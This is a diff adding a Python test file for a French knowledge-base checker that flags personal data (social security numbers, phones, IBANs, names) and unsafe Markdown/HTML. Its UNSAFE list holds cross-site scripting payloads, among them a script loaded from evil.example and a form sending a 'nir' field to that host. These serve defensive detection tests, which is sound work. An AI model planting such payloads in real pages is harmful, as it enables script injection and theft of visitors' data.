@@ -1,0 +1,180 @@
+"""Personal data and unsafe content: what is caught, what is not, and the exception marker."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from support import FIXTURES, REPO
+from kb.checks.privacy import find_personal_data, mask
+from kb.checks.unsafe import find_unsafe
+
+CAUGHT = [
+    ("donnee-nir", "Son numéro : 1 85 05 78 006 084 91."),
+    ("donnee-nir", "NIR 185057800608491"),
+    ("donnee-nir", "née en Corse : 2 91 02 2A 123 456 29"),
+    ("donnee-nir", "1 85 05 2B 123 456 60"),
+    ("donnee-telephone", "appelez le 06 12 34 56 78"),
+    ("donnee-telephone", "tél. 01.45.67.89.10"),
+    ("donnee-telephone", "+33 6 12 34 56 78"),
+    ("donnee-telephone", "+33 (0)1 45 67 89 10"),
+    ("donnee-telephone", "0033612345678"),
+    ("donnee-telephone", "à La Réunion : 0692 12 34 56"),
+    ("donnee-telephone", "+262 692 12 34 56"),
+    ("donnee-telephone", "en Guadeloupe, 0590 12 34 56"),
+    ("donnee-telephone", "à Nouméa : +687 75 12 34"),
+    ("donnee-courriel", "écrire à jean.dupont@example.org"),
+    ("donnee-iban", "IBAN FR76 3000 6000 0112 3456 7890 189"),
+    ("donnee-iban", "FR7630006000011234567890189"),
+    ("donnee-naissance", "l'enfant né le 14 février 2009"),
+    ("donnee-naissance", "née le 03/02/1987"),
+    ("donnee-naissance", "Né(e) le 1er mars 1990"),
+    ("donnee-naissance", "date de naissance : 12/05/2001"),
+    ("donnee-adresse", "il habite 12 rue des Lilas"),
+    ("donnee-adresse", "au 3 bis avenue Jean Jaurès"),
+    ("donnee-adresse", "5, place de la République"),
+    ("donnee-nom", "Mme Benali est venue"),
+    ("donnee-nom", "reçu par M. Dupont"),
+    ("donnee-nom", "Monsieur MARTIN"),
+    ("donnee-nom", "Madame Le-Gall"),
+    ("donnee-dossier", "dossier n° 2023-45678"),
+    ("donnee-dossier", "numéro d'allocataire 1234567"),
+]
+
+ORDINARY = [
+    "loi n° 2002-2 du 2 janvier 2002 rénovant l'action sociale et médico-sociale",
+    "décret n° 2016-1645 du 1er décembre 2016",
+    "Circulaire DHOS/O2/DGS/6C/DGAS/1A/1B n° 2005-521 du 23 novembre 2005",
+    "loi du 5 mars 2007 réformant la protection de l'enfance",
+    "article L411-3 du CASF ; CASF L345-2-4 ; art. L. 223-1",
+    "article 226-13 du Code pénal",
+    "appeler le 119, le 115 ou le 3919",
+    "tél. 3977 (Allô maltraitance)",
+    "Fil Santé Jeunes : 0 800 235 236 (numéro vert)",
+    "le 08 00 23 13 13, appel gratuit",
+    "en 2009, 35 % des personnes ; 12 000 personnes en 2019 ; 1 500 000 ménages",
+    "Plan pauvreté 2018-2022 : 8,5 milliards d'euros",
+    "ISBN 978-2-7071-5431-8",
+    "ISBN 2-07-036822-X",
+    "doi:10.1016/j.childyouth.2019.03.012",
+    "https://doi.org/10.3917/vst.123.0045",
+    "https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000006796785",
+    "M. X, 15 ans, et Mme D. sont reçus",
+    "Madame la juge ; M. le directeur ; Madame, Monsieur,",
+    "à partir du 1er janvier 2022 ; né en 2009 ; de 9 h à 17 h ; entre 06:00 et 08:00 ; 07/2023",
+    "les 2 places de parking ; les 3 cours du matin",
+    "il ne le dit pas le 3 mai ; elle ne le fera pas",
+    "le dossier de la personne ; l'allocataire du RSA",
+]
+
+
+@pytest.mark.parametrize("code,text", CAUGHT)
+def test_personal_data_is_caught(code: str, text: str) -> None:
+    assert code in {finding.code for finding in find_personal_data(text)}
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_ordinary_sheet_text_raises_no_alarm(text: str) -> None:
+    assert find_personal_data(text) == []
+
+
+def test_invalid_check_key_is_not_a_nir() -> None:
+    assert find_personal_data("185057800608492") == []
+
+
+def test_findings_are_masked() -> None:
+    assert mask("06 12 34 56 78") == "06 •• •• •• 78"
+    assert mask("Mme Benali") == "Mme B•••••"
+
+
+def test_the_real_starter_content_raises_no_alarm() -> None:
+    for path in (REPO / "practices").rglob("*.md"):
+        assert find_personal_data(path.read_text(encoding="utf-8")) == [], path
+
+
+def _sheet_with(project: Path, line: str, name: str = "secret") -> Path:
+    text = (FIXTURES / "diagnostics" / "donnee-nom.md").read_text(encoding="utf-8")
+    path = project / "practices" / f"{name}.md"
+    path.write_text(text.replace("id: donnee-nom", f"id: {name}")
+                        .replace("Mme Benali est reçue par l'éducatrice.", line), encoding="utf-8")
+    return path
+
+
+def _codes(kb, project: Path) -> list[tuple[str, int]]:
+    result = kb("--root", project, "check", "--format", "json")
+    assert "Traceback" not in result.out + result.err
+    return [(d["code"], d["line"]) for d in json.loads(result.out)]
+
+
+def test_kb_check_names_file_line_and_masks(project: Path, kb) -> None:
+    _sheet_with(project, "Elle rappelle au 06 12 34 56 78.")
+    result = kb("--root", project, "check")
+    assert result.exit_code == 1
+    assert "practices/secret.md:24:18: erreur: donnée personnelle : un numéro de téléphone (« 06 •• •• •• 78 »)" in result.out
+    assert "56 78" not in result.out.replace("•• 78", "")
+
+
+def test_a_justified_exception_silences_only_its_line_and_code(project: Path, kb) -> None:
+    _sheet_with(project, "Mme Benali a écrit l'ouvrage cité. <!-- relier-autoriser: donnee-nom — autrice citée -->")
+    assert _codes(kb, project) == []
+    _sheet_with(project, "Mme Benali, 06 12 34 56 78. <!-- relier-autoriser: donnee-nom — autrice citée -->")
+    assert _codes(kb, project) == [("donnee-telephone", 24)]
+
+
+def test_an_exception_marker_needs_a_known_code_and_a_reason(project: Path, kb) -> None:
+    _sheet_with(project, "Mme Benali. <!-- relier-autoriser: donnee-nom -->")
+    assert sorted(_codes(kb, project)) == [("donnee-nom", 24), ("exception", 24)]
+    _sheet_with(project, "Texte. <!-- relier-autoriser: contenu-dangereux — parce que -->")
+    assert _codes(kb, project) == [("exception", 24)]
+
+
+def test_an_exception_in_the_front_matter(project: Path, kb) -> None:
+    path = _sheet_with(project, "Un contexte.")
+    text = path.read_text(encoding="utf-8").replace(
+        '  - titre: "Une référence de test"',
+        '  - titre: "Entretien avec M. Dupont"  # relier-autoriser: donnee-nom — auteur du livre cité', 1)
+    path.write_text(text, encoding="utf-8")
+    assert _codes(kb, project) == []
+    path.write_text(text.replace("  # relier-autoriser: donnee-nom — auteur du livre cité", ""), encoding="utf-8")
+    assert _codes(kb, project) == [("donnee-nom", 16)]
+
+
+UNSAFE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT src=https://evil.example/x.js></SCRIPT>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x.swf"></object>',
+    '<embed src="x.swf">',
+    '<form action="https://evil.example"><input name="nir"></form>',
+    '<img src="x.png" onerror="alert(1)">',
+    '<p onclick="alert(1)">cliquez</p>',
+    "[un lien](javascript:alert(1))",
+    "[un lien]( JavaScript:alert(1) )",
+    "![image](data:image/svg+xml;base64,PHN2Zz4=)",
+    '<a href="javascript:alert(1)">lien</a>',
+    '<img src="data:text/html,<script>alert(1)</script>">',
+    "[ref]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    '<svg onload="alert(1)"></svg>',
+]
+HARMLESS = [
+    "Un lien [vers Légifrance](https://www.legifrance.gouv.fr/) et <https://www.cnape.fr/>.",
+    "Le <abbr title=\"Aide sociale à l'enfance\">ASE</abbr> et un <br> saut de ligne.",
+    "Données : 35 % ; les données : une base de données.",
+    "Un commentaire <!-- relier-autoriser: donnee-nom — auteur cité --> et 3 < 5 > 2.",
+    "Le mot onclick est un mot ; once = une fois.",
+]
+
+
+@pytest.mark.parametrize("text", UNSAFE)
+def test_unsafe_content_is_refused(text: str, project: Path, kb) -> None:
+    assert list(find_unsafe(text))
+    _sheet_with(project, text)
+    assert ("contenu-dangereux", 24) in _codes(kb, project)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_markup_is_accepted(text: str) -> None:
+    assert list(find_unsafe(text)) == []
